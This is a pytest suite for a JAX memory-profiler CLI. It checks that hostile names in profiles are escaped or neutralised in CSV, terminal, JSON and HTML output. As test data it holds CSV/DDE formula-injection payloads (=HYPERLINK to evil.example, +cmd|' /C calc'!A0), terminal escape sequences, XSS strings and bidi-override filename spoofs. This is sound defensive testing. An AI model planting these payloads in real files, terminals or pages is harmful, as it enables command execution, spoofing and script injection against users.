"""Function, file and label names from a profile are data, never code.

The profiles are built with ``profile_pb2`` (valid indices) so that exactly
these names reach the output: spreadsheet formulas, terminal escapes,
newlines, HTML, bidi overrides and bytes that are not UTF-8. CSV must parse
and keep formulas inert, the terminal must receive no control characters,
CSV, the terminal and the HTML page must show a name escaped the same way
(``escaped``), whichever name it is (a function, a dict key, a flax.nnx
module's attribute: a program recorded for real, at the end), and JSON must
carry the names unchanged.

stdout is read as bytes here: ``run_cli``'s text mode turns a carriage return
into a newline, which would hide exactly what these tests look for.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from collections import defaultdict
from pathlib import Path

import pytest

from conftest import cpu_env, run_cli

from jaxmemprof.pprof import profile_pb2 as pb

# (function name, file name) as raw string-table bytes.
HOSTILE = [
    (b'=HYPERLINK("http://evil.example/?q="&A1,"click me")', b'=HYPERLINK("http://evil.example/","x").py'),
    (b"+cmd|' /C calc'!A0", b"+cmd|' /C calc'!A0.py"),
    (b"-2+3", b"-2+3.py"),
    (b"@SUM(1)", b"@SUM(1)+1.py"),
    (b"\t=1+1", b"\ttab.py"),
    (b"\r=1+1", b"\rcr.py"),
    (b"mid\r=1+2", b"mid\r=cr.py"),  # a CR inside a name must not start a new CSV row
    (b"x\r\n=1+3", b"crlf\r\n@x.py"),
    (b"\x1b[31mred\x1b[0m", b"\x1b[2J\x1b[Hclear.py"),
    (b"\x1b]0;title\x07", b"\x1b]8;;http://evil.example/\x1b\\link.py"),
    (b"line1\nline2", b"two\nlines.py"),
    (b"<script>alert(1)</script>", b"<img src=x onerror=alert(1)>.py"),
    (b"evil\xe2\x80\xaegnp", b"invoice\xe2\x80\xaefdp.py"),  # U+202E RIGHT-TO-LEFT OVERRIDE
    (b"isolate\xe2\x81\xa6x\xe2\x81\xa9", b"lrm\xe2\x80\x8e.py"),  # U+2066/U+2069, U+200E
    (b"bad\xff\xfeutf8", b"bad\xc3(.py"),  # not UTF-8
    (b"\xed\xa0\x80surrogate", b"\x80\x9b31m.py"),  # an encoded surrogate; a lone C1 byte
    (b"c1\xc2\x9b31m\xc2\x85", b"del\x7f.py"),  # U+009B CSI, U+0085 NEL; DEL
    (b"nul\x00byte", b"bell\x07.py"),
    (b"caf\xc3\xa9 \xe2\x9c\x93", b"\xe6\x97\xa5\xe6\x9c\xac.py"),  # ordinary non-ASCII stays
]
DEVICES = [b"=cmd|'/C calc'!A0", b"\x1b[31mcpu:0\x1b[0m"]
KINDS = [b"-buffer\r\n=2+2", b"exec\xe2\x80\xaeutable\xff"]

SHOW_VALUES = ["bytes", "count", "share"]
DIFF_VALUES = ["base_bytes", "new_bytes", "delta_bytes", "base_count", "new_count", "delta_count"]
KEYS = {
    "site": ["site", "file", "line", "function"],
    "function": ["function"],
    "file": ["file"],
    "stack": ["stack"],
    "device": ["device"],
    "kind": ["kind"],
}
INT_COLUMNS = {"line", "bytes", "count", *DIFF_VALUES}
FLOAT_COLUMNS = {"share"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
GROUPINGS = list(KEYS)


def text(b: bytes) -> str:
    """How a name is expected to read: invalid UTF-8 as backslash escapes."""
    return b.decode("utf-8", errors="backslashreplace")


BIDI = {"\u061c", "\u200e", "\u200f", *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))}
# What is shown escaped: C0 (newline, ESC), DEL, C1, the line and paragraph separators and the bidi controls.
UNSAFE = {*map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0)), "\u2028", "\u2029", *BIDI}


def escaped(name: str) -> str:
    """How a name is shown, in CSV, on the terminal and on the HTML page
    alike: each unsafe character as Python's repr writes it (``\\x1b``,
    ``\\n``, ``\\u202e``), as a dict key in an owner path has it."""
    return "".join(repr(c)[1:-1] if c in UNSAFE else c for c in name)


def line_of(i: int) -> int:
    return 100 + i


def samples_for(which: str):
    """The samples of the base or new profile: (frame indices innermost
    first, device index, kind index, count, bytes). Values differ so that
    some groups grow, some shrink, one appears and one disappears."""
    n = len(HOSTILE)
    out = []
    for i in range(n):
        if which == "base":
            if i == n - 1:
                continue  # only in new
            out.append(([i], i % 2, i % 2, 1, 1000 * (i + 1)))
        else:
            if i == 0:
                continue  # only in base
            out.append(([i], i % 2, (i + 1) % 2, 1 + i % 3, 1000 * (n - i) + 7))
    # A deeper stack: two hostile frames.
    out.append(([4, 9], 0, 1, 2, 555 if which == "base" else 777))
    return out


def build(which: str) -> bytes:
    p = pb.Profile()
    strings = [b""]

    def s(b: bytes) -> int:
        strings.append(b)
        return len(strings) - 1

    p.sample_type.add(type=s(b"allocations"), unit=s(b"count"))
    p.sample_type.add(type=s(b"space"), unit=s(b"bytes"))
    kind_key, device_key = s(b"kind"), s(b"device")
    devices = [s(d) for d in DEVICES]
    kinds = [s(k) for k in KINDS]
    for i, (fn, file) in enumerate(HOSTILE, start=1):
        p.function.add(id=i, name=s(fn), system_name=s(fn), filename=s(file))
        p.location.add(id=i, line=[pb.Line(function_id=i, line=line_of(i - 1))])
    for frames, dev, kind, count, nbytes in samples_for(which):
        smp = p.sample.add(location_id=[f + 1 for f in frames], value=[count, nbytes])
        smp.label.add(key=kind_key, str=kinds[kind])
        smp.label.add(key=device_key, str=devices[dev])
    p.string_table.extend(strings)
    return p.SerializeToString()


def site_of(i: int) -> str:
    fn, file = HOSTILE[i]
    return f"{text(file)}:{line_of(i)} ({text(fn)})"


def keys_of(sample, by: str) -> tuple:
    frames, dev, kind, _, _ = sample
    inner = frames[0]
    fn, file = HOSTILE[inner]
    return {
        "site": (site_of(inner), text(file), line_of(inner), text(fn)),
        "function": (text(fn),),
        "file": (text(file),),
        "stack": (" <- ".join(site_of(f) for f in frames),),
        "device": (text(DEVICES[dev]),),
        "kind": (text(KINDS[kind]),),
    }[by]


def expected_show(by: str) -> dict[tuple, dict]:
    rows: dict[tuple, dict] = defaultdict(lambda: {"bytes": 0, "count": 0})
    for smp in samples_for("new"):
        r = rows[keys_of(smp, by)]
        r["bytes"] += smp[4]
        r["count"] += smp[3]
    total = sum(r["bytes"] for r in rows.values())
    for r in rows.values():
        r["share"] = r["bytes"] / total
    return dict(rows)


def expected_diff(by: str) -> dict[tuple, dict]:
    rows: dict[tuple, dict] = defaultdict(lambda: dict.fromkeys(DIFF_VALUES, 0))
    for side in ("base", "new"):
        for smp in samples_for(side):
            r = rows[keys_of(smp, by)]
            r[f"{side}_bytes"] += smp[4]
            r[f"{side}_count"] += smp[3]
    for r in rows.values():
        r["delta_bytes"] = r["new_bytes"] - r["base_bytes"]
        r["delta_count"] = r["new_count"] - r["base_count"]
    return dict(rows)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    d = tmp_path_factory.mktemp("hostile")
    (d / "base.prof").write_bytes(build("base"))
    (d / "new.prof").write_bytes(build("new"))
    return d


def run_cli_bytes(*args, cwd) -> subprocess.CompletedProcess:
    """``run_cli`` with stdout and stderr kept as bytes."""
    return subprocess.run([sys.executable, "-m", "jaxmemprof", *map(str, args)], cwd=cwd, env=cpu_env(),
                          capture_output=True, timeout=300)


def command_args(command: str) -> list[str]:
    return ["show", "new.prof"] if command == "show" else ["diff", "base.prof", "new.prof"]


def test_the_profiles_carry_the_hostile_names():
    """The control: the names are in the string table byte for byte."""
    msg = pb.Profile.FromString(build("new"))
    table = list(msg.string_table)
    for fn, file in HOSTILE:
        assert fn in table and file in table
    assert b"\r=1+1" in table and b"bad\xff\xfeutf8" in table


def neutralised(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_START) else value


# --------------------------------------------------------------------------
# CSV


@pytest.mark.parametrize("by", GROUPINGS)
@pytest.mark.parametrize("command", ["show", "diff"])
def test_csv_parses_and_keeps_formulas_inert(hostile, command, by):
    proc = run_cli_bytes(*command_args(command), "--by", by, "--csv", "-", cwd=hostile)
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
    assert b"Traceback" not in proc.stderr
    values = SHOW_VALUES if command == "show" else DIFF_VALUES
    header = KEYS[by] + values
    records = list(csv.reader(io.StringIO(proc.stdout.decode("utf-8"), newline="")))
    assert records[0] == header
    body = records[1:]
    for rec in body:
        assert len(rec) == len(header), f"a row was split or merged: {rec!r}"

    expected = expected_show(by) if command == "show" else expected_diff(by)
    got = {}
    for rec in body:
        cells = dict(zip(header, rec))
        for col, cell in cells.items():
            if col in INT_COLUMNS:
                assert cell == str(int(cell)), f"{col} is not a plain integer: {cell!r}"
            elif col in FLOAT_COLUMNS:
                float(cell)
            else:
                # Text: a cell a spreadsheet would run is quoted with '.
                assert not cell.startswith(FORMULA_START), f"{col} runs as a formula: {cell!r}"
        key = tuple(cells[k] for k in KEYS[by])
        assert key not in got, f"duplicate row {key!r}"
        got[key] = cells

    want = {}
    for key, vals in expected.items():
        shown = tuple(str(v) if k == "line" else neutralised(escaped(v)) for k, v in zip(KEYS[by], key))
        want[shown] = vals
    if command == "diff":
        # Unchanged groups may be left out of the rows; every changed one is there.
        assert all(k in want for k in got), sorted(set(got) - set(want))
        assert {k for k, v in want.items() if v["delta_bytes"] or v["delta_count"]} <= set(got)
    else:
        assert set(got) == set(want)
    for key, cells in got.items():
        for col in values:
            if col in FLOAT_COLUMNS:
                assert float(cells[col]) == pytest.approx(want[key][col])
            else:
                assert int(cells[col]) == want[key][col], (key, col)
    if command == "diff":
        # Shrinking groups: plain negative numbers, not neutralised text.
        negative = [c["delta_bytes"] for c in got.values() if int(c["delta_bytes"]) < 0]
        assert len(negative) == sum(1 for v in want.values() if v["delta_bytes"] < 0)
        assert negative or by not in ("site", "function", "file", "stack")
        assert all(c.startswith("-") and c[1:].isdigit() for c in negative)


def test_csv_carriage_return_cannot_smuggle_a_formula_row(tmp_path):
    """A name with a CR in the middle (not at the start, so not neutralised)
    is escaped (``\\r``), as the terminal shows it: a bare CR would end the
    record for spreadsheets, and the rest of the name would start a row with
    a formula."""
    p = pb.Profile()
    p.string_table.extend([b"", b"space", b"bytes", b"x\r=cmd|' /C calc'!A0", b"a.py"])
    p.sample_type.add(type=1, unit=2)
    p.function.add(id=1, name=3, filename=4)
    p.location.add(id=1, line=[pb.Line(function_id=1, line=1)])
    p.sample.add(location_id=[1], value=[4096])
    (tmp_path / "cr.prof").write_bytes(p.SerializeToString())
    proc = run_cli_bytes("show", "cr.prof", "--csv", "-", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
    assert b"\r=" not in proc.stdout
    records = list(csv.reader(io.StringIO(proc.stdout.decode("utf-8"), newline="")))
    name = "x\\r=cmd|' /C calc'!A0"
    assert records == [
        ["site", "file", "line", "function", "bytes", "count", "share"],
        [f"a.py:1 ({name})", "a.py", "1", name, "4096", "0", "1.0"],
    ]


def test_csv_file_matches_csv_stdout(hostile):
    """--csv FILE writes the same bytes as --csv - (read back without newline translation)."""
    out = hostile / "sites.csv"
    if out.exists():
        out.unlink()
    run_cli("show", "new.prof", "--csv", out, cwd=hostile, check=0)
    stdout = run_cli_bytes("show", "new.prof", "--csv", "-", cwd=hostile).stdout
    assert out.read_bytes() == stdout


# --------------------------------------------------------------------------
# Terminal

def assert_terminal_safe(raw: bytes):
    out = raw.decode("utf-8")  # strict: the terminal gets valid UTF-8
    bad = sorted({c for c in out if c in UNSAFE and c != "\n"})
    assert not bad, f"control characters reach the terminal: {bad!r}"


@pytest.mark.parametrize("by", GROUPINGS)
@pytest.mark.parametrize("command", ["show", "diff"])
def test_terminal_output_has_no_control_characters(hostile, command, by):
    proc = run_cli_bytes(*command_args(command), "--by", by, "--top", "0", cwd=hostile)
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
    assert proc.stderr == b""
    assert_terminal_safe(proc.stdout)
    out = proc.stdout.decode("utf-8")
    lines = out.split("\n")
    # One line per group: a newline inside a name does not add lines.
    expected = expected_show(by) if command == "show" else expected_diff(by)
    header = next(i for i, ln in enumerate(lines) if ln.rstrip().endswith(f"  {by}"))
    total = next(i for i, ln in enumerate(lines) if ln.startswith("total: "))
    n_rows = total - header - 1
    if command == "show":
        assert n_rows == len(expected), out
    else:
        changed = sum(1 for v in expected.values() if v["delta_bytes"] or v["delta_count"])
        assert changed <= n_rows <= len(expected), out
    # The names are still there to read, escaped.
    if by in ("function", "site", "stack"):
        assert "\\x1b[31mred\\x1b[0m" in out
        assert "evil\\u202egnp" in out
        assert "bad\\xff\\xfeutf8" in out
    if by in ("file", "site"):
        assert "invoice\\u202efdp.py" in out
        assert "\u65e5\u672c.py" in out  # ordinary non-ASCII is shown as it is
    # The device and kind labels, shown in the breakdowns, are escaped too.
    assert "\\x1b[31mcpu:0\\x1b[0m" in out


# --------------------------------------------------------------------------
# JSON


@pytest.mark.parametrize("by", ["site", "stack", "device", "kind"])
@pytest.mark.parametrize("command", ["show", "diff"])
def test_json_round_trips_the_names(hostile, command, by):
    proc = run_cli_bytes(*command_args(command), "--by", by, "--json", cwd=hostile)
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
    doc = json.loads(proc.stdout.decode("utf-8"))
    assert doc["command"] == command
    expected = expected_show(by) if command == "show" else expected_diff(by)
    got = {tuple(r[k] for k in KEYS[by]): r for r in doc["rows"]}
    if command == "show":
        assert set(got) == set(expected)
    else:
        assert set(got) <= set(expected)
        assert {k for k, v in expected.items() if v["delta_bytes"] or v["delta_count"]} <= set(got)
    for key, row in got.items():
        for col in SHOW_VALUES if command == "show" else DIFF_VALUES:
            assert row[col] == pytest.approx(expected[key][col])
    assert {d["device"] for d in doc["devices"]} == {text(d) for d in DEVICES}
    assert {k["kind"] for k in doc["kinds"]} == {text(k) for k in KINDS}
    if by == "site":
        functions = {r["function"] for r in doc["rows"]}
        # Invalid UTF-8 arrives as backslash escapes; everything else unchanged.
        assert "bad\\xff\\xfeutf8" in functions
        assert "\\xed\\xa0\\x80surrogate" in functions
        assert "+cmd|' /C calc'!A0" in functions
        assert "\r=1+1" in functions and "\x1b]0;title\x07" in functions
        assert "evil\u202egnp" in functions and "caf\u00e9 \u2713" in functions


# --------------------------------------------------------------------------
# Warnings and errors name files too

RUN = Path(__file__).resolve().parent.parent / "sample_runs" / "runs" / "mlp-leak"
HOSTILE_FILE = "\x1b]0;owned\x07\x1b[2J\u202eline\nbreak000999.prof.gz"


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """The bundled run, copied under a name with terminal escapes, with an
    orphan snapshot file whose name has more: both reach the warnings."""
    d = tmp_path_factory.mktemp("hostile-run")
    run = d / "run\x1b[31mred"
    shutil.copytree(RUN, run)
    (run / "snapshots" / HOSTILE_FILE).write_bytes(b"")
    return run


@pytest.mark.parametrize("args", [
    ["show", "{run}"], ["diff", "{run}"], ["export", "{run}", "--csv", "{out}"],
    ["export", "{run}@peak", "--format", "pprof", "-o", "{out}.pb.gz"], ["report", "{run}"],
], ids=["show", "diff", "export-csv", "export-pprof", "report"])
def test_warnings_escape_the_names_they_quote(hostile_run, tmp_path, args):
    out = tmp_path / "out\x1b[2J"
    argv = [a.format(run=hostile_run, out=out) for a in args]
    proc = run_cli_bytes(*argv, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
    assert_terminal_safe(proc.stdout)
    assert_terminal_safe(proc.stderr)
    shown = (proc.stdout + proc.stderr).decode("utf-8", "replace")
    assert "snapshot file(s) without a journal entry" in shown
    assert "\\x1b]0;owned\\x07\\x1b[2J\\u202eline\\nbreak000999.prof.gz" in shown
    assert "run\\x1b[31mred" in shown


@pytest.mark.parametrize("command", ["show", "report", "diff"])
def test_errors_escape_the_names_they_quote(tmp_path, command):
    """A path typed (or globbed) with escapes or a newline in it: the error
    stays one line, escaped."""
    name = "no\x1b[2Jsuch\nfile.prof"
    args = [command, tmp_path / name] + ([tmp_path / name] if command == "diff" else [])
    proc = run_cli_bytes(*args, cwd=tmp_path)
    assert proc.returncode == 2
    assert_terminal_safe(proc.stderr)
    err = proc.stderr.decode()
    assert err.count("\n") == 1 and "no\\x1b[2Jsuch\\nfile.prof" in err, err


def test_a_path_that_is_not_utf8_is_shown_as_its_bytes(tmp_path):
    """A file name's bytes that are not UTF-8 reach Python as surrogates;
    written back raw, 0x9b would be a C1 control (CSI). They are shown as
    \\xNN, in errors and in the title of the table alike."""
    bad = tmp_path / os.fsdecode(b"\x9b31m\xff.prof")
    proc = run_cli_bytes("show", bad, cwd=tmp_path)
    assert proc.returncode == 2
    assert_terminal_safe(proc.stderr)
    assert b"\\x9b31m\\xff.prof: no such file" in proc.stderr
    shutil.copy(RUN / "snapshots" / "000001.prof.gz", bad)
    proc = run_cli_bytes("show", bad, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert_terminal_safe(proc.stdout)
    assert b"\\x9b31m\\xff.prof: space/bytes by site" in proc.stdout


def test_report_shows_labels_and_manifest_fields_as_data(tmp_path):
    """A snapshot label with rich markup ([link=...] would become an OSC 8
    hyperlink on a terminal) and manifest fields with escapes are shown as
    they are, escaped: never read as markup, never raw."""
    run = tmp_path / "run"
    shutil.copytree(RUN, run)
    manifest = json.loads((run / "manifest.json").read_text())
    manifest.update(backend="\x1b]0;title\x07cpu", ended_by="exit\x1b[2J")
    (run / "manifest.json").write_text(json.dumps(manifest))
    label = "[link=http://evil.example/]click[/link][bold]\x1b[31m"
    import sqlite3

    con = sqlite3.connect(run / "journal.sqlite")
    with con:
        con.execute("UPDATE snapshots SET label = ? WHERE live_bytes = (SELECT max(live_bytes) FROM snapshots)",
                    (label,))
    con.close()
    proc = run_cli_bytes("report", run, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
    assert_terminal_safe(proc.stdout)
    out = proc.stdout.decode()
    assert "[link=http://evil.example/]click[/link][bold]\\x1b[31m" in out
    assert "; \\x1b]0;title\\x07cpu, 1 device" in out and "exit status 0 (exit\\x1b[2J)" in out


# --------------------------------------------------------------------------
# A program's own names, recorded for real: a flax.nnx module's attribute, a
# dict key and a function name, each the same hostile text, shown the same
# way in CSV, on the terminal and on the HTML page.

EVIL = "w\x1b[31m\u202e\u2066\u061c\u200f\x9b\x7f\nx"
EVIL_SHOWN = "w\\x1b[31m\\u202e\\u2066\\u061c\\u200f\\x9b\\x7f\\nx"
NNX_PROGRAM = f'''
import jax.numpy as jnp
from flax import nnx
import jaxmemprof

EVIL = {EVIL!r}


class Model(nnx.Module):
    def __init__(self):
        setattr(self, EVIL, nnx.Param(jnp.ones((128, 128))))  # the largest parameter
        self.b = nnx.Param(jnp.zeros((128,)))

    def __call__(self, x):
        return x @ getattr(self, EVIL)[...] + self.b[...]


def step(model, x, extra):
    w = getattr(model, EVIL)
    w[...] = w[...] - 0.01 * (x.T @ model(x)) + extra[EVIL]
    return model(x).sum()


step.__code__ = step.__code__.replace(co_name=EVIL, co_qualname=EVIL)
step.__name__ = step.__qualname__ = EVIL
step = nnx.jit(step, donate_argnames=("model",))

model = Model()
extra = {{EVIL: jnp.zeros((128, 128))}}  # a dict key: jax's path writes it with its escapes
for i in range(4):
    x = jnp.ones((32, 128)) * i
    loss = step(model, x, extra)
jaxmemprof.snapshot(EVIL)
print(float(loss))
'''


@pytest.fixture(scope="module")
def nnx_run(tmp_path_factory):
    """The program recorded, exported as CSV, reported on the terminal and as HTML."""
    d = tmp_path_factory.mktemp("hostile-nnx")
    (d / "prog.py").write_text(NNX_PROGRAM)
    proc = run_cli_bytes("run", "-q", "-o", "run", "prog.py", cwd=d)
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
    # what they write goes to files: read through the fork server (tests/conftest.py run_cli)
    run_cli("export", "run", "--csv", "csv", cwd=d, check=0)
    run_cli("report", "run", "--html", "report.html", cwd=d, check=0)
    return d


def read_csv(path: Path) -> list[dict]:
    raw = path.read_text(encoding="utf-8")
    assert not {c for c in raw if c in UNSAFE and c not in "\r\n"}, path.name
    return list(csv.DictReader(io.StringIO(raw, newline="")))


def test_the_program_names_its_own_hostile_names(nnx_run):
    """The control: the run keeps the names as the program has them (JSON
    carries them unchanged; the dict key as jax's path writes it)."""
    proc = run_cli("report", "run", "--json", cwd=nnx_run, check=0)  # JSON: its text, parsed
    doc = json.loads(proc.stdout)
    owners = {o["owner"] for o in doc["roles"]["owners"]}
    assert f"model.{EVIL}" in owners and f"extra[{EVIL!r}]" in owners
    assert [r["function"] for r in doc["jit_memory"]] == [EVIL]
    assert escaped(EVIL) == EVIL_SHOWN and repr(EVIL)[1:-1] == EVIL_SHOWN  # a dict key's escapes are the same


def test_csv_shows_attribute_dict_key_and_function_escaped_alike(nnx_run):
    out = nnx_run / "csv"
    for f in sorted(out.iterdir()):
        read_csv(f)  # no file carries a raw control or bidi character
    owners = read_csv(out / "owners.csv")
    by_owner = {r["owner"]: r for r in owners}
    assert by_owner[f"model.{EVIL_SHOWN}"]["role"] == "parameters"
    assert by_owner[f"extra['{EVIL_SHOWN}']"]["role"] == "held inputs"
    assert {r["function"] for r in owners} == {EVIL_SHOWN}
    # XLA's temporaries, by the user's line: the function's own name in the site
    assert any(r["owner"].endswith(f" ({EVIL_SHOWN})") for r in owners if r["role"] == "inside the call")
    roles = {r["role"]: r for r in read_csv(out / "roles.csv")}
    assert roles["parameters"]["largest_owner"] == f"model.{EVIL_SHOWN}"
    [jit] = read_csv(out / "jit.csv")
    assert jit["function"] == EVIL_SHOWN and jit["donated"] == "model"
    assert EVIL_SHOWN in {r["label"] for r in read_csv(out / "timeline.csv")}


def test_terminal_shows_attribute_dict_key_and_function_escaped_alike(nnx_run):
    proc = run_cli_bytes("report", "run", cwd=nnx_run)
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
    assert_terminal_safe(proc.stdout)
    out = proc.stdout.decode()
    assert f"model.{EVIL_SHOWN} " in out and f"extra['{EVIL_SHOWN}'] " in out
    assert f"during a call of {EVIL_SHOWN} " in out and f"{EVIL_SHOWN} at prog.py:" in out
    assert f"api ({EVIL_SHOWN})" in out  # the snapshot's label
    proc = run_cli_bytes("show", "run@peak", "--by", "owner", cwd=nnx_run)
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
    assert_terminal_safe(proc.stdout)
    out = proc.stdout.decode()
    assert f"model.{EVIL_SHOWN} (parameters)" in out and f"extra['{EVIL_SHOWN}'] (held inputs)" in out
    # show's CSV has them as its terminal table does
    proc = run_cli_bytes("show", "run@peak", "--by", "owner", "--csv", "-", cwd=nnx_run)
    rows = list(csv.DictReader(io.StringIO(proc.stdout.decode(), newline="")))
    assert {f"model.{EVIL_SHOWN}", f"extra['{EVIL_SHOWN}']"} <= {r["owner"] for r in rows}


def page_data(html: str) -> dict:
    import re

    return json.loads(re.search(r'<script type="application/json" id="jmp-data">(.*?)</script>', html, re.S).group(1))


def test_html_file_shows_attribute_dict_key_and_function_escaped_alike(nnx_run):
    html = (nnx_run / "report.html").read_text(encoding="utf-8")
    assert not {c for c in html if c in UNSAFE and c != "\n"}
    doc = page_data(html)
    texts = set(doc["strings"])
    assert not {c for t in texts for c in t if c in UNSAFE}  # nor their JSON escapes (\u001b)
    assert f"model.{EVIL_SHOWN}" in texts and f"extra['{EVIL_SHOWN}']" in texts and EVIL_SHOWN in texts
    assert [r["function"] for r in doc["jit"]["memory"]] == [EVIL_SHOWN]
    assert doc["true_peak"]["where"] == f"during a call of {EVIL_SHOWN}"
    assert EVIL not in html and "\\u001b" not in html


def test_html_page_text_has_no_control_or_bidi_character(nnx_run):
    """The page as a browser shows it: its text, and the names its cells
    carry, escaped as CSV and the terminal have them."""
    from _browser import Browser, chromium

    if chromium() is None:
        pytest.skip("chromium is not installed (CI installs it: .ci/run)")
    with Browser() as b:
        page = b.open(nnx_run / "report.html")
        assert page.evaluate("document.documentElement.dataset.jmpReady") == "1"
        assert page.errors == []
        shown = page.evaluate("document.body.innerText + document.title")
        paths = page.evaluate("Array.from(document.querySelectorAll('#roles g.fnode')).map(g => g.dataset.path)")
        jit = page.evaluate("document.getElementById('jmp-jit-memory').innerText")
    assert not {c for c in shown if c in UNSAFE and c not in "\n\t"}, sorted({c for c in shown if c in UNSAFE})
    assert f"model.{EVIL_SHOWN}" in paths and f"extra['{EVIL_SHOWN}']" in paths
    assert EVIL_SHOWN in jit
